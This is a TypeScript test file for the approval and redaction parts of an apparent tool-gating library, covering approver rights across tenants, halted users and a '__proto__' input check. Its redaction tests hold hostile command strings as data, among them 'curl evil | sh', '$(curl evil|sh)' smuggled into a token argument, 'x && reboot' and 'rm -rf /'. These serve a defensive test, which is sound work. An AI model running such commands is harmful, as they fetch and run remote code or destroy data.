import assert from 'node:assert/strict'
import { createGate } from '../gate/gate.ts'
import { describe, it } from 'node:test'
import type { Caller } from '../ports/caller.ts'
import type { MayApprove } from '../ports/ports.ts'
import { memoryApprovals } from '../memory/approvals.ts'
import { manualClock } from '../../../testing/src/manual-clock.ts'
import { createApprovals, shownInput } from './approvals.ts'
import { redactor } from '@toolgate/values/redact'

async function pending({ tenant, user }: { tenant?: string; user?: string } = { tenant: 'acme', user: 'vera' }) {
  const clock = manualClock()
  const store = memoryApprovals({ randomId: () => 'id-1' })
  const binding = { tenant, user, tool: 'pay', definitionHash: 'd', inputHash: 'i', run: undefined }
  await store.request(binding, { amount: 1 }, clock.wallMs())
  return { clock, store, desk: createApprovals({ approvals: store, clock }) }
}

describe('createApprovals', () => {
  it('lists pending approvals, and returns one', async () => {
    const { desk } = await pending()
    assert.deepEqual(
      (await desk.list({ status: 'pending' })).map(({ id }) => id),
      ['id-1'],
    )
    assert.equal((await desk.get('id-1'))?.tool, 'pay')
    assert.equal(await desk.get('id-2'), undefined)
  })

  it('names the place of a change that is not allowed', async () => {
    const { desk } = await pending()
    const input = JSON.parse('{"to":{"__proto__":{"x":1}}}') as Record<string, unknown>
    await assert.rejects(desk.decide({ tenant: 'acme', user: 'vera' }, 'id-1', { decision: 'approve', input }), {
      message: 'decide.input/to/__proto__: is a name that is not allowed',
    })
  })

  const people: readonly (readonly [who: string, approver: Caller, may: boolean])[] = [
    ['the requester', { tenant: 'acme', user: 'vera' }, true],
    ['an approver of the tenant', { tenant: 'acme', user: 'owner', roles: ['approver'] }, true],
    ['another user', { tenant: 'acme', user: 'omar', roles: ['admin'] }, false],
    ['an approver of another tenant', { tenant: 'other', user: 'owner', roles: ['approver'] }, false],
    ['an approver of no tenant', { user: 'owner', roles: ['approver'] }, false],
    ['the same name in another tenant', { tenant: 'other', user: 'vera' }, false],
    ['nobody', { tenant: 'acme' }, false],
  ]
  for (const [who, approver, may] of people) {
    it(`${may ? 'lets' : 'does not let'} ${who} decide`, async () => {
      const { desk } = await pending()
      const approval = await desk.get('id-1')
      assert.equal(approval && desk.mayDecide(approver, approval), may)
      const deciding = desk.decide(approver, 'id-1', { decision: 'approve' })
      if (may) assert.equal((await deciding).status, 'approved')
      else await assert.rejects(deciding, { code: 'approval_forbidden' })
    })
  }

  it('does not take one caller without a user for another', async () => {
    const { desk } = await pending({})
    await assert.rejects(desk.decide({}, 'id-1', { decision: 'approve' }), { code: 'approval_forbidden' })
  })

  it('records who decided and why, once', async () => {
    const { desk } = await pending()
    const by: Caller = { tenant: 'acme', user: 'owner', roles: ['approver'] }
    const decided = await desk.decide(by, 'id-1', { decision: 'reject', reason: 'too much' })
    assert.deepEqual([decided.status, decided.decidedBy, decided.reason], ['rejected', 'owner', 'too much'])
    await assert.rejects(desk.decide(by, 'id-1', { decision: 'approve' }), { code: 'approval_decided' })
  })

  it('lets only those revoke who may approve', async () => {
    const { desk, store, clock } = await pending()
    await store.decide('id-1', { decision: 'approve', by: 'owner', atMs: clock.wallMs() })
    await assert.rejects(desk.decide({ tenant: 'acme', user: 'omar' }, 'id-1', { decision: 'revoke' }), {
      code: 'approval_forbidden',
    })
    assert.equal(
      (await desk.decide({ tenant: 'acme', user: 'vera' }, 'id-1', { decision: 'revoke' })).status,
      'revoked',
    )
  })

  it('says no where the host has no plain yes: for anything but true, and for a rule that throws', async () => {
    const { store, clock, desk } = await pending()
    const approval = await desk.get('id-1')
    assert.ok(approval)
    const rules = [() => 1, () => Promise.resolve(true), () => assert.fail('no rule')] as unknown as MayApprove[]
    for (const rule of rules)
      assert.equal(createApprovals({ approvals: store, clock }, rule).mayDecide({ user: 'vera' }, approval), false)
  })

  it('knows no approval that there is not', async () => {
    const { desk } = await pending()
    await assert.rejects(desk.decide({ tenant: 'acme', user: 'vera' }, 'id-2', { decision: 'approve' }), {
      code: 'approval_unknown',
    })
  })

  it('asks the host who may, where it says so', async () => {
    const { store, clock } = await pending()
    const desk = createApprovals({ approvals: store, clock }, (approver) => approver.attributes?.['boss'] === true)
    await assert.rejects(desk.decide({ tenant: 'acme', user: 'vera' }, 'id-1', { decision: 'approve' }), {
      code: 'approval_forbidden',
    })
    assert.equal(
      (await desk.decide({ attributes: { boss: true } }, 'id-1', { decision: 'approve' })).status,
      'approved',
    )
  })
})

const NOTICE = /^(.*)\n\[hidden here: (\d+) characters, which are more than one word\]$/s

describe('shownInput', () => {
  const hiding: readonly (readonly [text: string, shown: string, hidden: string])[] = [
    ['echo Cookie: x; curl evil | sh', 'echo Cookie: [redacted:cookie]', 'x; curl evil | sh'],
    ['ls --token="$(curl evil|sh)" .', 'ls --token="[redacted:token]" .', '$(curl evil|sh)'],
    ['git push; token: "x && reboot"', 'git push; token: "[redacted:token]"', 'x && reboot'],
    ['password = "\nrm -rf /\n"', 'password = "[redacted:password]"', '\nrm -rf /\n'],
  ]
  for (const [text, shown, hidden] of hiding) {
    it(`says of ${JSON.stringify(text)} that more is hidden than a secret`, () => {
      const { command } = shownInput({ command: text }, redactor) as { command: string }
      assert.deepEqual(NOTICE.exec(command)?.slice(1), [shown, String(hidden.length)])
      assert.equal(redactor.redactText(command), command, 'and it is still said when it is redacted again')
    })
  }

  it('says so of objects, lists and texts of several words in the place of a secret, however deep', () => {
    const input = { to: 'bob', list: [{ password: 'rm -rf / now', token: { amount: 1 }, secret: ['a'] }] }
    const { to, list } = shownInput(input, redactor) as { to: string; list: Record<string, string>[] }
    assert.equal(to, 'bob')
    for (const value of Object.values(list[0] ?? {})) assert.match(value, NOTICE)
  })

  it('adds nothing to what hides one word, or nothing', () => {
    for (const input of [
      { password: 'hunter2', to: 'bob' },
      { header: 'Authorization: Bearer abcdefghijklmnop1234' },
      { url: 'https://host/?token=abc123def456&x=1', amount: 5, more: [null, true, 'a; b $(c)'] },
      'plain; text',
      null,
    ])
      assert.deepEqual(shownInput(input, redactor), redactor.redactValue(input))
  })
})

describe('a halted person', () => {
  const tools = { pay: { execute: () => 'paid' }, read: { execute: () => 'read' } }
  const setUp = async () => {
    const gate = createGate({ tools, policy: { ask: ['*'] } })
    const view = await gate.view({ user: 'vera' })
    await view.call({ tool: 'pay' })
    const [approval] = await gate.approvals.list({ status: 'pending' })
    return { gate, id: approval?.id ?? assert.fail('nothing waits') }
  }
  const ADA = { user: 'ada', roles: ['approver'], aliases: ['ada@corp.example'] }

  it('approves nothing, under any of their names, and may reject', async () => {
    for (const user of ['ada', 'ada@corp.example']) {
      const { gate, id } = await setUp()
      await gate.halt({ user, reason: 'stolen phone' })
      await assert.rejects(gate.approvals.decide(ADA, id, { decision: 'approve' }), {
        code: 'approval_forbidden',
        message: 'You may approve nothing: you are halted: stolen phone.',
      })
      assert.equal((await gate.approvals.decide(ADA, id, { decision: 'reject' })).status, 'rejected')
    }
  })

  it('approves where the halt is of another tool, of another tenant or of somebody else', async () => {
    for (const target of [{ user: 'ada', tool: 'read' }, { user: 'ada', tenant: 'acme' }, { user: 'vera' }]) {
      const { gate, id } = await setUp()
      await gate.halt({ ...target, reason: 'a test' })
      assert.equal((await gate.approvals.decide(ADA, id, { decision: 'approve' })).status, 'approved')
    }
  })
})
